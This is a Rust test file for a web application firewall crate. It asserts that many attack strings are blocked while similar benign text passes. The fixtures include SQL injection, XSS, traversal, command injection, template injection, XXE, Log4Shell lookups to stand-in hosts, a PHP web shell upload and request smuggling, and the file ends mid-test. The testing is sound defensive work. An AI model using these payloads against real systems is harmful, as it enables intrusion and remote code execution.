//! Detection and false-positive fixtures (written for this crate; no third-party test text).

use aiwaf_payload::{
    Class, DetectorMode, Exclusion, HeadParts, Inspector, Location, Malformed, OverLimit, Overlay, PayloadConfig,
    Report,
};

fn insp() -> Inspector {
    Inspector::new(PayloadConfig::default()).expect("default config")
}

fn enc(s: &str) -> String {
    let mut o = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() {
            o.push(b as char);
        } else {
            o.push_str(&format!("%{b:02X}"));
        }
    }
    o
}

fn query(i: &Inspector, q: &str) -> Report {
    let mut r = Report::default();
    let h: [(&str, &[u8]); 1] =
        [("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")];
    i.inspect_head(&HeadParts { method: "GET", path: "/search", query: Some(q), headers: &h }, &mut r);
    r
}

fn value(i: &Inspector, v: &str) -> Report {
    query(i, &format!("q={}", enc(v)))
}

fn form(i: &Inspector, field: &str, v: &str) -> Report {
    let mut r = Report::default();
    let body = format!("{field}={}", enc(v));
    i.inspect_body("/submit", Some("application/x-www-form-urlencoded"), body.as_bytes(), false, &mut r);
    r
}

#[track_caller]
fn blocks(v: &str) {
    let i = insp();
    let r = value(&i, v);
    assert!(r.should_block(i.config()), "expected block for {v:?}: {:?}", r.findings);
}

#[track_caller]
fn passes(v: &str) {
    let i = insp();
    let r = value(&i, v);
    assert!(!r.should_block(i.config()), "expected pass for {v:?}: {:?}", r.findings);
    let r = form(&i, "comment", v);
    assert!(!r.should_block(i.config()), "expected pass (form) for {v:?}: {:?}", r.findings);
}

#[test]
fn sql_injection() {
    for v in [
        "' or '1'='1",
        "1 or 1=1",
        "1' UNION SELECT username, password FROM users--",
        "1; DROP TABLE users",
        "admin'--",
        "1' AND SLEEP(5)#",
        "1; waitfor delay '0:0:5'--",
        "1 and extractvalue(1,concat(0x7e,version()))",
        "1 union select table_name from information_schema.tables",
        "1' INTO OUTFILE '/var/www/shell.php",
        "' into outfile '/tmp/a",
        "1 UNION/**/SELECT/**/1,2,3",
        "1 and char(65,66,67)=char(65,66,67)",
        "1) or pg_sleep(5)--",
    ] {
        blocks(v);
    }
}

#[test]
fn encoded_sql_injection_fires() {
    let i = insp();
    for q in [
        "id=%27%20OR%20%271%27%3D%271",
        "id=%2527%2520OR%2520%25271%2527%253D%25271",
        "id=%EF%BC%87%20or%20%EF%BC%871%EF%BC%87=%EF%BC%871",
    ] {
        let r = query(&i, q);
        assert!(r.should_block(i.config()), "{q}: {:?}", r.findings);
        assert!(r.findings.iter().any(|f| f.target == "query.id"));
    }
}

#[test]
fn xss() {
    for v in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\t=alert(1)>",
        "<svg/onload=alert(document.domain)>",
        "javascript:alert(document.cookie)",
        "\" onmouseover=\"alert(1)",
        "<iframe src=//evil.example>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "＜script＞alert(1)＜/script＞",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<div style=\"width: expression(alert(1))\">",
    ] {
        blocks(v);
    }
    // onerror%09= arrives double-encoded in the raw query
    let i = insp();
    let r = query(&i, "q=%3Cimg%20src%3Dx%20onerror%2509%3Dalert(1)%3E");
    assert!(r.should_block(i.config()), "{:?}", r.findings);
}

#[test]
fn traversal_rfi_cmdi_and_friends() {
    for v in [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "..\\..\\windows\\win.ini",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        "http://attacker.example/shell.txt?",
        "; cat /etc/passwd",
        "| id",
        "$(whoami)",
        "`uname -a`",
        "127.0.0.1 && ping -c 3 evil.example",
        "x;cat${IFS}/etc/passwd",
        "& powershell -enc SQBFAFgA",
        "cmd.exe /c dir",
        "{{7*7}}",
        "${7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__}}",
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
        "a\r\nSet-Cookie: admin=1",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "<?php system($_GET['c']); ?>",
        "eval(base64_decode('ZWNobyAxOw=='))",
        "Runtime.getRuntime().exec('id')",
        "java.lang.ProcessBuilder",
        "require('child_process').exec('id')",
        "process.mainModule.require('child_process')",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "<!--#exec cmd=\"ls\"-->",
    ] {
        blocks(v);
    }
}

/// Evasions that only code allows (comments, line breaks, a called expression, glob and brace
/// tricks) and tools that are command lines by name.
#[test]
fn code_and_command_evasions() {
    for v in [
        "exec  (blah)",
        "FILE\r\n()",
        "gzuncompress/*comment*/()",
        "bzdecompress()",
        "('system')('whoami')",
        "($y)('uname');",
        "(string) {[system][0]} ('uname');",
        "$_aB_4c/*foo*/[@5]/*bar*/[@d]/*baz*/(19)",
        "test<?",
        "com.opensymphony.xwork2",
        "org.apache.commons",
        "ansible-playbook site.yml",
        "visudo",
        "; aptitude install x",
        "time; chef-shell",
        "/etc/[m-z]asswd",
        "/usr/[a-z]in/bash",
        "{,ifconfig,eth0}",
        "cd /;cd etc;cat passwd",
        "alias x=env",
        "perf --version",
        "while(!null)",
        "window[\"alert\"](window[\"document\"][\"cookie\"])",
        "document/*foo*/./*bar*/cookie",
        "btoa(document.domain)",
        "pi$()ng 127.0.0.1",
        "pi``ng 127.0.0.1",
        "find /etc -name passwd -exec cat {} +",
        "c$@at /et$@c/pas$@swd",
        "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3 cmd",
        "who\\ami",
        "uname$u -a",
        "http://0251.0376.0251.0376/",
        "http:2852039166",
        "user(",
        "DaTaBasE(",
        "localhost/admin",
        "http://2852039166/",
        "jar:http://evil.example/b.zip!/a",
        "/@fs/etc/passwd",
    ] {
        blocks(v);
    }
    for v in [
        "see the attached file (pdf)",
        "system (beta)",
        "Section (a)(1) of the act",
        "knife set",
        "docker images",
        "john doe",
        "format=lastlog",
        "perf review",
        "[system] config section",
        "cd player; records",
        "f(x) = (a)(b)",
        "localhost",
        "He said \"cat\" twice",
        "rock'n'roll",
        "C$ 20 or US$15",
        "user(s) selected",
        "while (foo) is bar.",
        "Found it in the bin (the blue one)",
        "order 2852039166",
    ] {
        passes(v);
    }
}

#[test]
fn nosql_operators_in_names_and_json_keys() {
    let i = insp();
    let r = query(&i, "user=admin&password[$ne]=x");
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    let mut r = Report::default();
    i.inspect_body("/login", Some("application/json"), br#"{"user":"admin","password":{"$ne":null}}"#, false, &mut r);
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    assert!(r.findings.iter().any(|f| f.class == Class::Nosqli && f.target == "body.password.$ne"));
    let mut r = Report::default();
    i.inspect_body(
        "/api",
        Some("application/json"),
        br#"{"$schema":"https://json-schema.org/draft/2020-12/schema","price$":1,"name":"x"}"#,
        false,
        &mut r,
    );
    assert!(!r.should_block(i.config()), "{:?}", r.findings);
}

#[test]
fn look_alikes_do_not_fire() {
    for v in [
        "select a product",
        "Select your size",
        "O'Brien",
        "Tom's Diner",
        "don't",
        "<b>bold</b> and <p>a paragraph</p>",
        "1 or 2 items",
        "union station",
        "drop me a line",
        "how to use select from where",
        "https://example.com/page",
        "jane.doe@example.com",
        "2024-05-01T10:00:00Z",
        "Tue, 01 May 2024 10:00:00 GMT",
        "+1 (555) 123-4567",
        "cat food",
        "a; b",
        "rock & roll; salt & pepper",
        "Jam\u{f3}n Ib\u{e9}rico",
        "Calle Formentera, 184 4-C",
        "4539 1488 0343 6467",
        "50% off everything!",
        "What's new? Check the FAQ (section 2).",
        "Price alert (new)",
        "me & you | them",
        "the expression (a + b) is even",
    ] {
        passes(v);
    }
    let i = insp();
    for q in [
        "next=https%3A%2F%2Fexample.com%2Fpage",
        "redirect=https://example.com/a?b=c",
        "url=http://example.com/",
        "q=A%F1adir+al+carrito",
        "email=lag%40xavipetit.lu",
    ] {
        let r = query(&i, q);
        assert!(!r.should_block(i.config()), "{q}: {:?}", r.findings);
    }
}

#[test]
fn ls_la_only_at_paranoia_two() {
    passes("ls -la");
    let i = Inspector::new(PayloadConfig { paranoia: 2, ..PayloadConfig::default() }).expect("pl2");
    assert!(value(&i, "ls -la /tmp").should_block(i.config()));
}

#[test]
fn browser_headers_cookies_and_uas_pass() {
    let i = insp();
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "curl/8.5.0",
        "python-requests/2.32.3",
        // `; Touch;` reads like a shell chain; rules that leave User-Agents out must mean it
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
        "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ] {
        let h: [(&str, &[u8]); 5] = [
            ("User-Agent", ua.as_bytes()),
            ("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("Cookie", b"_ga=GA1.2.123.456; csrftoken=abc; sessionid=xyz; JSESSIONID=08C8DCD89400C53A4F6F4C6029663578"),
            ("Referer", b"https://example.com/search?q=a+b"),
            ("Accept-Language", b"en-US,en;q=0.5"),
        ];
        let mut r = Report::default();
        i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r);
        assert!(r.findings.is_empty(), "{ua}: {:?}", r.findings);
    }
    for ua in [
        "sqlmap/1.8#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Nuclei - Open-source project",
    ] {
        let h: [(&str, &[u8]); 1] = [("User-Agent", ua.as_bytes())];
        let mut r = Report::default();
        i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r);
        assert!(r.should_block(i.config()), "{ua}");
        assert_eq!(r.findings[0].target, "header.user-agent");
    }
}

#[test]
fn bodies() {
    let i = insp();
    // rich text with harmless markup
    let mut r = Report::default();
    i.inspect_body(
        "/post",
        Some("application/x-www-form-urlencoded"),
        b"content=%3Cp%3EHello+%3Cb%3Eworld%3C%2Fb%3E%3C%2Fp%3E&title=Hi",
        false,
        &mut r,
    );
    assert!(!r.should_block(i.config()), "{:?}", r.findings);
    // base64 PNG in JSON
    let png = format!(
        r#"{{"avatar":"data:image/png;base64,{}"}}"#,
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    );
    let mut r = Report::default();
    i.inspect_body("/profile", Some("application/json"), png.as_bytes(), false, &mut r);
    assert!(!r.should_block(i.config()), "{:?}", r.findings);
    // JSON attack with nested name
    let mut r = Report::default();
    i.inspect_body(
        "/api",
        Some("application/json; charset=utf-8"),
        br#"{"user":{"name":["a","b","<script>alert(1)</script>"]}}"#,
        false,
        &mut r,
    );
    assert!(r.should_block(i.config()));
    assert_eq!(r.findings[0].target, "body.user.name[2]");
    assert_eq!(r.findings[0].location, Location::BodyValue);
    // multipart: field values and file names, not contents
    let mp = b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n";
    let mut r = Report::default();
    i.inspect_body("/upload", Some("multipart/form-data; boundary=XyZ"), mp, false, &mut r);
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    assert!(r.findings.iter().all(|f| f.target == "body.file.filename"), "{:?}", r.findings);
    // XXE in XML
    let mut r = Report::default();
    i.inspect_body(
        "/xml",
        Some("application/xml"),
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
        false,
        &mut r,
    );
    assert!(r.findings.iter().any(|f| f.class == Class::Xxe), "{:?}", r.findings);
    // benign XML
    let mut r = Report::default();
    i.inspect_body(
        "/xml",
        Some("text/xml"),
        b"<?xml version=\"1.0\"?><order id=\"7\"><item>Blue shirt</item></order>",
        false,
        &mut r,
    );
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    // malformed JSON: low-severity finding, attacks still seen in the raw body
    let mut r = Report::default();
    i.inspect_body("/api", Some("application/json"), b"{\"a\": 1,", false, &mut r);
    assert!(r.findings.iter().any(|f| f.rule == "protocol.malformed_body"));
    assert!(!r.should_block(i.config()));
    let i2 =
        Inspector::new(PayloadConfig { on_malformed_body: Malformed::Pass, ..PayloadConfig::default() }).expect("cfg");
    let mut r = Report::default();
    i2.inspect_body("/api", Some("application/json"), b"{\"a\": 1,", false, &mut r);
    assert!(r.findings.is_empty());
}

#[test]
fn over_limit_modes() {
    let body = b"a=hello";
    for (mode, expect_block) in [(OverLimit::InspectPrefix, false), (OverLimit::Block, true), (OverLimit::Pass, false)]
    {
        let i = Inspector::new(PayloadConfig { on_body_over_limit: mode, ..PayloadConfig::default() }).expect("cfg");
        let mut r = Report::default();
        i.inspect_body("/", Some("application/x-www-form-urlencoded"), body, true, &mut r);
        assert_eq!(r.should_block(i.config()), expect_block, "{mode:?}");
    }
}

#[test]
fn modes_paranoia_and_exclusions() {
    let mut detectors = std::collections::BTreeMap::new();
    detectors.insert("sqli".to_string(), DetectorMode::Detect);
    let i = Inspector::new(PayloadConfig { detectors, ..PayloadConfig::default() }).expect("cfg");
    let r = value(&i, "' or '1'='1");
    assert!(!r.findings.is_empty() && r.findings.iter().all(|f| f.shadow));
    assert_eq!(r.score, 0);

    let i = Inspector::new(PayloadConfig {
        exclusions: vec![Exclusion {
            path_prefix: "/search".into(),
            detectors: vec!["sqli".into()],
            targets: vec!["query.q".into()],
        }],
        ..PayloadConfig::default()
    })
    .expect("cfg");
    assert!(value(&i, "' or '1'='1").findings.iter().all(|f| f.class != Class::Sqli));
    assert!(value(&i, "<script>alert(1)</script>").should_block(i.config()));

    let i = Inspector::new(PayloadConfig { executing_paranoia: 2, ..PayloadConfig::default() }).expect("cfg");
    let r = value(&i, "ls -la /tmp");
    assert!(r.findings.iter().any(|f| f.shadow && f.paranoia == 2), "{:?}", r.findings);
    assert!(!r.should_block(i.config()));
}

#[test]
fn config_validation_names_the_key() {
    let e = Inspector::new(PayloadConfig { paranoia: 7, ..PayloadConfig::default() }).unwrap_err();
    assert!(e.contains("paranoia") && e.contains('7'), "{e}");
    let mut detectors = std::collections::BTreeMap::new();
    detectors.insert("sqlx".to_string(), DetectorMode::Off);
    let e = Inspector::new(PayloadConfig { detectors, ..PayloadConfig::default() }).unwrap_err();
    assert!(e.contains("sqlx"), "{e}");
    let cfg: PayloadConfig =
        serde_json::from_str(r#"{"paranoia":2,"on_body_over_limit":"block","detectors":{"xss":"detect"}}"#)
            .expect("serde");
    assert_eq!(cfg.on_body_over_limit, OverLimit::Block);
    assert!(serde_json::from_str::<PayloadConfig>(r#"{"paranoya":2}"#).is_err());
}

#[test]
fn scoring_dedupes_per_rule_and_bounds_findings() {
    let i = insp();
    let q: Vec<String> = (0..100).map(|n| format!("a{n}=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).collect();
    let r = query(&i, &q.join("&"));
    assert!(r.findings.len() <= aiwaf_payload::MAX_FINDINGS);
    let distinct: std::collections::BTreeSet<&str> = r.findings.iter().map(|f| f.rule).collect();
    assert!(r.score <= 5 * distinct.len() as u32 + 5, "score {} for {:?}", r.score, distinct);
    assert!(r.summary().contains("Cross-site scripting"), "{}", r.summary());
    let j = r.findings[0].to_json();
    assert_eq!(j["class"], "xss");
}

#[test]
fn target_limit() {
    let i = Inspector::new(PayloadConfig { max_targets: 4, ..PayloadConfig::default() }).expect("cfg");
    let r = query(&i, "a=1&b=2&c=3&d=4&e=5&f=6");
    assert!(r.targets_dropped > 0);
    assert!(r.findings.iter().any(|f| f.rule == "protocol.too_many_targets"));
}

#[test]
fn never_panics_on_arbitrary_bytes() {
    let i = insp();
    let mut seed: u64 = 0x9e3779b97f4a7c15;
    let alphabet: &[u8] = b"%'\"<>&;=+$(){}[]\\/.:-#*`|!@^~\0\r\n\t aZ09\xc0\xae\xef\xbc\xff";
    for n in 0..3000 {
        let len = n % 97;
        let mut v = Vec::with_capacity(len);
        for _ in 0..len {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            v.push(alphabet[(seed >> 33) as usize % alphabet.len()]);
        }
        let s = String::from_utf8_lossy(&v).into_owned();
        let h: [(&str, &[u8]); 3] = [("User-Agent", &v), ("Cookie", &v), ("Referer", &v)];
        let mut r = Report::default();
        i.inspect_head(&HeadParts { method: "GET", path: &s, query: Some(&s), headers: &h }, &mut r);
        for ct in [
            "application/json",
            "application/xml",
            "multipart/form-data; boundary=a",
            "application/x-www-form-urlencoded",
            "text/plain",
        ] {
            i.inspect_body(&s, Some(ct), &v, n % 2 == 0, &mut r);
        }
        let _ = r.summary();
    }
}

#[test]
fn empty_get_is_clean() {
    let i = insp();
    let mut r = Report::default();
    i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &[] }, &mut r);
    assert!(r.is_clean() && r.score == 0);
    let _ = Location::Path;
}

fn head(i: &Inspector, method: &str, path: &str, query: Option<&str>, headers: &[(&str, &[u8])]) -> Report {
    let mut r = Report::default();
    i.inspect_head(&HeadParts { method, path, query, headers }, &mut r);
    r
}

#[test]
fn sql_structure_rules() {
    for v in [
        "x' having 1=1--",
        "a' xor 'b",
        "1' is not null--",
        "') AS t FROM users",
        "1; WAITFOR DELAY '0:0:5'",
        "1 /*!50000select*/ 1",
        "'a' -> '$.b' = '1'",
        "execute immediate 'x'",
        "1 procedure analyse(1,1)",
        "case when 1=1 then 1 else 0 end",
        "x and 7639=(select 1)",
        "|| c == '1'",
        "x;set @a = 1",
        "group_concat(password)",
        "1 or ifnull(1,1)",
        "lo_import('/etc/passwd')",
    ] {
        blocks(v);
    }
    for v in [
        "black and white",
        "Rock and roll is here to stay",
        "She said 'hello' and left",
        "\"Union von Europa\"",
        "How long is the case when shipped?",
        "Tom and Jerry = best cartoon",
        "set the table",
        "2 + 2 = 4",
        "pages 10 to 20",
    ] {
        passes(v);
    }
}

#[test]
fn shell_globbing_braces_and_shellshock() {
    for v in [
        "x;/bi?/ca? /et?/passwd",
        "/etc/pas[s]wd",
        "{cat,/etc/passwd}",
        "() { :; }; echo vulnerable",
        "if not (2 equ 2) echo hey",
        "ping`` 127.0.0.1",
        "cat /path/to/file.gz",
        "ls --version",
    ] {
        blocks(v);
    }
    for v in ["/search?q=shoes", "price {1,2}", "a (b) {c}", "What? Why?", "/images/logo.png", "categories/shoes"] {
        passes(v);
    }
}

#[test]
fn xss_obfuscations_and_js_escapes() {
    for v in [
        "<d i a l o g open>",
        "<v:vmlframe src=\"x\"/>",
        "(document/*x*/)[\"cookie\"]",
        "setInterval(code, 1)",
        "[].sort.call`${alert}1`",
        "x=x:url(javascript",
        "c\\u006fnsole.info(1)",
        "__\\u0070\\u0072oto__.x=1",
    ] {
        blocks(v);
    }
    for v in ["Use a dialog box", "document the setup", "call me later"] {
        passes(v);
    }
}

#[test]
fn php_node_ssrf_and_session_additions() {
    for v in [
        "exec /*x*/ ()",
        "\"system\"(\"id\")",
        "[system][0](ls);",
        "$_aB[5]['d'] /*x*/ (17)",
        "${'ff'}",
        "session.save_path=/tmp",
        "_$$ND_FUNC$$_function(){}",
        "while(-1);",
        "{% if True %}1{% endif %}",
        "http://host.docker.internal/",
        "http://google.com:80 &@127.0.0.1:22/",
        "data:text/plain,hello",
    ] {
        blocks(v);
    }
    let i = insp();
    let r = query(&i, "phpsession=abc&x=1");
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    for q in ["session_count=3", "page=2&sort=session", "next=https%3A%2F%2Fexample.com%2Fa"] {
        let r = query(&i, q);
        assert!(!r.should_block(i.config()), "{q}: {:?}", r.findings);
    }
}

#[test]
fn crlf_ldap_and_smuggling_in_values() {
    let i = insp();
    for q in ["param%0d%0a=test", "x=1&%0d%0aRemote-addr:%20foo", "f=x)(uid%3D*", "f=val)%7C(uid%3D*"] {
        let r = query(&i, q);
        assert!(r.should_block(i.config()), "{q}: {:?}", r.findings);
    }
    let mut r = Report::default();
    i.inspect_body("/", Some("text/plain"), b"xGET /a.html HTTP/1.1\r\nHost: x\r\n\r\n", false, &mut r);
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    for q in ["note=see%20(figure%202)", "f=(a)(b)"] {
        let r = query(&i, q);
        assert!(!r.should_block(i.config()), "{q}: {:?}", r.findings);
    }
}

/// Method, path, query, headers.
type HeadCase<'a> = (&'a str, &'a str, Option<&'a str>, Vec<(&'a str, &'a [u8])>);

#[test]
fn protocol_checks_on_the_head() {
    let i = insp();
    let ua: (&str, &[u8]) = ("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
    let cases: [HeadCase<'_>; 10] = [
        ("REALLYLONGUNREALMETHOD", "/", None, vec![ua]),
        ("GET", "/", None, vec![ua, ("Content-Length", b"NotDigits")]),
        ("POST", "/", None, vec![ua, ("Content-Length", b"3"), ("Transfer-Encoding", b"chunked")]),
        ("POST", "/", None, vec![ua, ("Transfer-Encoding", b"chunked, identity")]),
        ("GET", "/", None, vec![ua, ("Range", b"bytes=1-2,3-4,5-6,7-8,9-10,11-12")]),
        ("GET", "/", None, vec![ua, ("Proxy", b"http://evil.example")]),
        ("GET", "/", None, vec![ua, ("X-Anything", b"a\r\nSet-Cookie: x=1")]),
        ("POST", "/", None, vec![ua, ("Content-Type", b"application/x-www-form-urlencoded;charset=ibm038")]),
        ("GET", "/", Some("x=new%w20"), vec![ua]),
        ("GET", "/#frag", None, vec![ua]),
    ];
    for (m, p, q, h) in &cases {
        let r = head(&i, m, p, *q, h);
        assert!(r.should_block(i.config()), "{m} {p} {q:?} {h:?}: {:?}", r.findings);
    }
    // ordinary requests, including one Content-Type, Range and Accept each
    let ok: [HeadCase<'_>; 5] = [
        ("GET", "/", None, vec![ua, ("Range", b"bytes=0-1023")]),
        ("POST", "/f", None, vec![ua, ("Content-Type", b"multipart/form-data; boundary=----WebKitFormBoundary7MA4")]),
        ("POST", "/f", None, vec![ua, ("Content-Type", b"application/json; charset=utf-8"), ("Content-Length", b"12")]),
        ("GET", "/a", Some("q=50%25%20off&u=%u00e9"), vec![ua, ("Accept", b"*/*"), ("Host", b"shop.example:8443")]),
        ("PROPFIND", "/dav/", None, vec![ua, ("Depth", b"1")]),
    ];
    for (m, p, q, h) in &ok {
        let r = head(&i, m, p, *q, h);
        assert!(r.findings.is_empty(), "{m} {p} {q:?} {h:?}: {:?}", r.findings);
    }
}

#[test]
fn every_header_is_inspected_but_plain_lists_are_skipped() {
    let i = insp();
    let r = head(&i, "GET", "/", None, &[("Remote-IP", b"<script>alert(1)</script>")]);
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    assert_eq!(r.findings[0].target, "header.remote-ip");
    let r = head(&i, "GET", "/", None, &[("Accept", b"text/html; ' or 1=1--")]);
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    let r = head(&i, "GET", "/", None, &[("X.Filename", b"a.php")]);
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    let h: [(&str, &[u8]); 6] = [
        ("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", b"de-CH,de;q=0.9,en;q=0.8"),
        ("Sec-CH-UA", b"\"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\", \"Not-A.Brand\";v=\"24\""),
        ("If-None-Match", b"W/\"5e15153d-120f\""),
        ("X-Requested-With", b"XMLHttpRequest"),
        ("Origin", b"https://shop.example"),
    ];
    let r = head(&i, "GET", "/", None, &h);
    assert!(!r.should_block(i.config()), "{:?}", r.findings);
}

#[test]
fn bench_request_is_clean() {
    let i = insp();
    let h: [(&str, &[u8]); 5] = [
        ("Host", b"shop.example"),
        (
            "User-Agent",
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        ),
        ("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Cookie", b"JSESSIONID=08C8DCD89400C53A4F6F4C6029663578; _ga=GA1.2.123.456"),
        ("Referer", b"https://shop.example/tienda1/publico/productos.jsp"),
    ];
    let r = head(&i, "GET", "/", None, &h);
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    assert_eq!(r.targets_inspected, 6);
}

fn body_rules(ct: Option<&str>, body: &[u8]) -> Vec<&'static str> {
    let i = insp();
    let mut r = Report::default();
    i.inspect_body("/post", ct, body, false, &mut r);
    r.findings.iter().filter(|f| !f.shadow).map(|f| f.rule).collect()
}

/// Multipart parsers that disagree with the WAF, method override, bad encoding, and bodies sent
/// without a Content-Type.
#[test]
fn protocol_smuggling_in_bodies() {
    let mp = |disp: &str, ctype: &str| {
        format!("--b\r\nContent-Disposition: form-data; {disp}\r\n{ctype}\r\n\r\nhello\r\n--b--\r\n").into_bytes()
    };
    let ct = Some("multipart/form-data; boundary=b");
    assert!(body_rules(ct, &mp(r#"name="a;b"; filename="x""#, "")).contains(&"protocol.multipart_name"));
    assert!(body_rules(ct, &mp(r#"name="f"; filename="file=.txt""#, "")).contains(&"protocol.multipart_name"));
    assert!(
        body_rules(ct, &mp(r#"name="f""#, "Content-Type: text/plain; CHARSET=UTF-7"))
            .contains(&"protocol.multipart_charset")
    );
    for (disp, ctype) in [
        (r#"name="doc"; filename="Tom &amp; Jerry.pdf""#, "Content-Type: application/pdf"),
        (r#"name="doc"; filename="D:\scans\report.pdf""#, ""),
        (r#"name="note""#, "Content-Type: text/plain; charset=utf-8"),
    ] {
        assert!(body_rules(ct, &mp(disp, ctype)).is_empty(), "{disp} {ctype}");
    }
    let form = Some("application/x-www-form-urlencoded");
    assert!(body_rules(form, b"_method=PROPFIND&x=1").contains(&"protocol.method_override"));
    assert!(body_rules(form, b"_method=delete&authenticity_token=abc").is_empty(), "Rails/Laravel forms");
    assert!(body_rules(form, b"_method=post&authenticity_token=abc").is_empty());
    assert!(body_rules(form, b"param=%1G").contains(&"protocol.invalid_url_encoding"));
    let q = query(&insp(), "amount=1000&_method=POST");
    assert!(q.findings.iter().any(|f| f.rule == "protocol.method_override"), "{:?}", q.findings);
    // no Content-Type: URL-encoded text and JSON are inspected as such
    assert!(!body_rules(None, b"%22+union+select%0A").is_empty());
    assert!(!body_rules(None, br#"{"q": "1' union select password from users--"}"#).is_empty());
    assert!(body_rules(None, b"hello+world%21").is_empty());
}

/// Run-time changes (the admin API's overlay) apply on top of the configuration: an added
/// exclusion, a detector switched to detect or off, and back — without rebuilding the inspector.
#[test]
fn overlay_applies_without_rebuilding() {
    let i = insp();
    let q = "q=%27+or+%271%27%3D%271";
    let head = HeadParts { method: "GET", path: "/search", query: Some(q), headers: &[] };
    let run = |o: &Overlay| {
        let mut r = Report::default();
        i.inspect_head_with(&head, o, &mut r);
        r
    };
    assert!(run(&Overlay::default()).should_block(i.config()));
    let excl = Overlay {
        exclusions: vec![Exclusion {
            path_prefix: "/search".into(),
            detectors: vec!["sqli".into()],
            targets: vec!["query.q".into()],
        }],
        ..Overlay::default()
    };
    let r = run(&excl);
    assert!(r.findings.iter().all(|f| f.class != Class::Sqli), "{:?}", r.findings);
    let elsewhere = HeadParts { method: "GET", path: "/other", query: Some(q), headers: &[] };
    let mut r = Report::default();
    i.inspect_head_with(&elsewhere, &excl, &mut r);
    assert!(r.should_block(i.config()), "the exclusion is for /search only");

    let mut detect = Overlay::default();
    detect.detectors.insert("sqli".into(), DetectorMode::Detect);
    let r = run(&detect);
    assert!(!r.findings.is_empty() && r.findings.iter().all(|f| f.shadow) && r.score == 0, "{:?}", r.findings);
    let mut off = Overlay::default();
    off.detectors.insert("sqli".into(), DetectorMode::Off);
    assert!(run(&off).findings.iter().all(|f| f.class != Class::Sqli));

    // a configured detect mode is replaced by the overlay's block
    let mut d = std::collections::BTreeMap::new();
    d.insert("sqli".to_string(), DetectorMode::Detect);
    let i2 = Inspector::new(PayloadConfig { detectors: d, ..PayloadConfig::default() }).expect("cfg");
    let mut block = Overlay::default();
    block.detectors.insert("sqli".into(), DetectorMode::Block);
    let mut r = Report::default();
    i2.inspect_head_with(&head, &block, &mut r);
    assert!(r.should_block(i2.config()));

    assert!(
        Overlay { detectors: [("nope".to_string(), DetectorMode::Off)].into(), ..Overlay::default() }
            .validate()
            .unwrap_err()
            .contains("nope")
    );
    let bad = Overlay {
        exclusions: vec![Exclusion { path_prefix: "api".into(), ..Exclusion::default() }],
        ..Overlay::default()
    };
    assert!(bad.validate().unwrap_err().contains("exclusions[0].path_prefix"));
}

/// Default install paths of legacy servers that scanners fingerprint are blocked on the first
/// request; ordinary pages with similar words are not.
#[test]
fn legacy_probe_paths() {
    let i = insp();
    let path = |p: &str| {
        let mut r = Report::default();
